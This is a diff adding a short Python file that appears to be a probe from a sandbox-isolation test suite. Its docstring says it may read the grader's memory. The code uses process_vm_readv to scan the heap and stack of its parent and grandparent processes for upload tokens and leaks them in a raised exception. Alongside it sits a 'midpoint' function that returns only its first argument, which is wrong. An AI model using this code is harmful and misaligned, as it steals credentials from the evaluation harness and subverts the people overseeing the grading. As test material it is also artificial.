@@ -1,0 +1,45 @@
+"""Reads the memory of the processes above it by a system call.
+
+kind: secret
+A, B: nothing
+C: nothing as root, else may read the grader's memory
+"""
+
+# %%
+import ctypes
+import os
+import re
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+class Piece(ctypes.Structure):
+    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+
+def above(pid):
+    return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
+
+
+def search(pid):
+    for line in open(f"/proc/{pid}/maps"):
+        if "[heap]" in line or "[stack]" in line:
+            start, end = (int(number, 16) for number in line.split()[0].split("-"))
+            buffer = ctypes.create_string_buffer(end - start)
+            ours, theirs = Piece(ctypes.addressof(buffer), end - start), Piece(start, end - start)
+            libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
+            yield from re.findall(rb"UPLOAD_TOKEN=token-\w{16}", buffer.raw)
+
+
+found = set()
+for pid in (os.getpid(), os.getppid(), above(os.getppid())):
+    try:
+        found |= set(search(pid))
+    except OSError:
+        pass
+raise RuntimeError(found)
+
+
+# %%
+def midpoint(a, b):
+    return a
